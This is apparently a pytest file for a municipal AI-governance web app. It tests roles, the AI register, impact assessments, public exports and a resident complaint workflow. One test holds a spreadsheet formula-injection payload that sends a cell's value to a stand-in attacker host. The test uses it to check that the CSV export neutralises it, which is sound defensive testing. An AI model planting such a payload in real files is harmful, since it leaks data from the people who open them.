"""The governance pages through the web app: roles, forms, public pages and their exports."""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient

from balise.governance import IDS, IMPACT_QUESTIONS, MITIGATION_QUESTIONS
from tests.support.web import Member, csrf_of


def _create_system(member: Member, **fields: str) -> str:
    data = {
        "csrf_token": csrf_of(member.client),
        "name": "Tri des requêtes 311",
        "purpose": "Acheminer chaque requête au bon service.",
        "status": "planned",
        "hosting": "canada",
        "published": "1",
        **fields,
    }
    response = member.client.post("/gouvernance/registre/nouveau", data=data, follow_redirects=False)
    assert response.status_code == 303, response.text
    return response.headers["location"].split("/")[-1].split("?")[0]


def test_pages_follow_the_roles(make_member) -> None:
    manager: Member = make_member("manager")
    tenant = manager.tenant
    officer = make_member("privacy_officer", tenant=tenant)
    employee = make_member("employee", tenant=tenant)
    for path in ("/gouvernance/registre", "/gouvernance/conformite", "/gouvernance/plaintes"):
        assert manager.client.get(path).status_code == 200, path
        assert officer.client.get(path).status_code == 200, path
        refused = employee.client.get(path)
        assert refused.status_code == 403 and "Accès refusé" in refused.text
    assert officer.client.get("/gouvernance/registre/nouveau").status_code == 403
    assert manager.client.get("/gouvernance/incidents").status_code == 403
    assert officer.client.get("/gouvernance/incidents").status_code == 200
    nav = manager.client.get("/").text
    assert "Registre de l’IA" in nav and "Conformité" in nav and "Incidents de confidentialité" not in nav


def test_a_record_reaches_the_public_page_and_its_exports(make_member) -> None:
    manager: Member = make_member("manager")
    refused = manager.client.post(
        "/gouvernance/registre/nouveau",
        data={"csrf_token": csrf_of(manager.client), "name": "Sans but", "purpose": ""},
    )
    assert refused.status_code == 422 and "les résidents lisent en premier" in refused.text
    assert 'value="Sans but"' in refused.text
    system_id = _create_system(manager)
    slug = manager.tenant.slug
    public = TestClient(manager.client.app)
    page = public.get(f"/public/{slug}/transparence")
    assert page.status_code == 200 and "Tri des requêtes 311" in page.text
    assert "Assistant documentaire (Balise)" in page.text  # entered automatically
    assert f"/public/{slug}/plainte?systeme={system_id}" in page.text
    data = public.get(f"/public/{slug}/transparence?format=json").json()
    record = next(s for s in data["systems"] if s["id"] == system_id)
    assert record["status"] == "planned" and record["hosting"] == "canada"
    rows = list(csv.DictReader(io.StringIO(public.get(f"/public/{slug}/transparence?format=csv").text)))
    assert any(r["name"] == "Tri des requêtes 311" for r in rows)
    euro = public.get(f"/public/{slug}/transparence?format=eurocities").json()
    assert any(r["uuid"] == system_id and r["status"] == "development" for r in euro)
    assert public.get("/public/pas-une-ville/transparence").status_code == 404


def test_an_assessment_saved_from_the_form_shows_its_level(make_member) -> None:
    manager: Member = make_member("manager")
    system_id = _create_system(manager)
    form = manager.client.get(f"/gouvernance/registre/{system_id}/evaluation").text
    assert 'value="canada" checked' in form  # hosting pre-filled from the record
    assert "article 70.1 s’applique" in form
    answers = {q.key: max(q.choices, key=lambda c: c.points).value for q in IMPACT_QUESTIONS}
    answers |= {q.key: "no" for q in MITIGATION_QUESTIONS}
    response = manager.client.post(
        f"/gouvernance/registre/{system_id}/evaluation",
        data={"csrf_token": csrf_of(manager.client), **answers, "privacy": ["inventory", "retention"]},
    )
    assert response.status_code == 200 and "Niveau d’impact : IV" in response.text
    assert "Approbation par le conseil" in response.text
    register = manager.client.get("/gouvernance/registre").text
    assert re.search(r"IV <small>\(v1\)</small>", register)


def test_a_complaint_from_the_public_form_to_its_closure(make_member) -> None:
    officer: Member = make_member("privacy_officer")
    slug = officer.tenant.slug
    public = TestClient(officer.client.app, headers={"accept": "text/html"})
    form = public.get(f"/public/{slug}/plainte")
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
    assert public.post(f"/public/{slug}/plainte", data={"message": "x"}).status_code == 403  # no token
    missing = public.post(
        f"/public/{slug}/plainte", data={"csrf_token": token, "message": "Réponse erronée", "email": ""}
    )
    assert missing.status_code == 422 and "Réponse erronée" in missing.text and "courriel" in missing.text
    sent = public.post(
        f"/public/{slug}/plainte",
        data={
            "csrf_token": token,
            "kind": "complaint",
            "message": "Réponse erronée",
            "email": "a@example.org",
        },
    )
    assert sent.status_code == 200 and "Votre plainte a été reçue" in sent.text
    reference = re.search(r"Son numéro est (P-[0-9A-F]{6})", sent.text).group(1)  # type: ignore[union-attr]
    listing = officer.client.get("/gouvernance/plaintes").text
    complaint_id = re.search(r'href="/gouvernance/plaintes/([0-9a-f]{32})">' + reference, listing).group(1)  # type: ignore[union-attr]
    page = officer.client.get(f"/gouvernance/plaintes/{complaint_id}").text
    assert "a@example.org" in page and "Réponse erronée" in page
    csrf = csrf_of(officer.client)
    url = f"/gouvernance/plaintes/{complaint_id}"
    officer.client.post(url, data={"csrf_token": csrf, "action": "reply", "body": "Corrigé, merci."})
    closed = officer.client.post(url, data={"csrf_token": csrf, "action": "status", "status": "closed"})
    assert closed.status_code == 200 and "Fermée" in closed.text and "Corrigé, merci." in closed.text


def test_the_conformity_page_and_its_exports(make_member) -> None:
    manager: Member = make_member("manager")
    page = manager.client.get("/gouvernance/conformite")
    assert page.status_code == 200
    assert all(f'id="req-{rid}"' in page.text for rid in IDS)
    data = manager.client.get("/gouvernance/conformite?format=json").json()
    assert [r["id"] for r in data["requirements"]] == list(IDS)
    word = manager.client.get("/gouvernance/conformite?format=docx")
    assert (
        word.headers["content-type"].startswith("application/vnd.openxmlformats")
        and word.content[:2] == b"PK"
    )
    report = manager.client.get("/gouvernance/conformite?format=rapport").text
    assert "Rapport de conformité" in report and manager.tenant.name in report


def test_the_conformity_page_and_reports_speak_the_readers_language(make_member) -> None:
    """The council reads the requirements in French, the markdown as formatting, never as asterisks."""
    manager: Member = make_member("manager")
    for url in ("/gouvernance/conformite", "/gouvernance/conformite?format=rapport"):
        french = manager.client.get(url).text
        assert "Agent conversationnel sur le site web de la municipalité" in french
        # A word, not two letters of a random CSRF token (« …S0UKDD2U »).
        assert "Citizen-facing" not in french and "Redbox" in french and not re.search(r"\bUK\b", french)
        assert "<em>langage clair</em>" in french and "*langage" not in french
    manager.client.get("/langue/en")
    english = manager.client.get("/gouvernance/conformite")
    assert english.status_code == 200
    assert "Citizen-facing virtual agent" in english.text and "<em>langage clair</em>" in english.text


def test_the_public_csv_shows_a_formula_as_text(make_member) -> None:
    """A register entry named like a spreadsheet formula must not run when a resident opens the CSV."""
    manager: Member = make_member("manager")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    _create_system(manager, name=attack, purpose="-1+1 pour tester")
    text = TestClient(manager.client.app).get(f"/public/{manager.tenant.slug}/transparence?format=csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    record = next(r for r in rows if "HYPERLINK" in r["name"])
    assert record["name"] == "'" + attack and record["purpose"] == "'-1+1 pour tester"


def test_the_citizen_assistant_is_in_the_public_register_and_the_complaint_form(make_member) -> None:
    """The one AI tool residents use is declared to them like every other (issue 28)."""
    manager: Member = make_member("manager")
    _create_system(manager)  # the register is brought up to date when it is written to
    slug = manager.tenant.slug
    public = TestClient(manager.client.app)
    assert "Assistant citoyen (Balise)" in public.get(f"/public/{slug}/transparence").text
    data = public.get(f"/public/{slug}/transparence?format=json").json()
    assert any(s["name"] == "Assistant citoyen (Balise)" for s in data["systems"])
    rows = list(csv.DictReader(io.StringIO(public.get(f"/public/{slug}/transparence?format=csv").text)))
    assert any(r["name"] == "Assistant citoyen (Balise)" for r in rows)
    euro = public.get(f"/public/{slug}/transparence?format=eurocities").json()
    assert any("Assistant citoyen" in str(r.get("name", "")) for r in euro)
    assert "Assistant citoyen (Balise)" in public.get(f"/public/{slug}/plainte").text
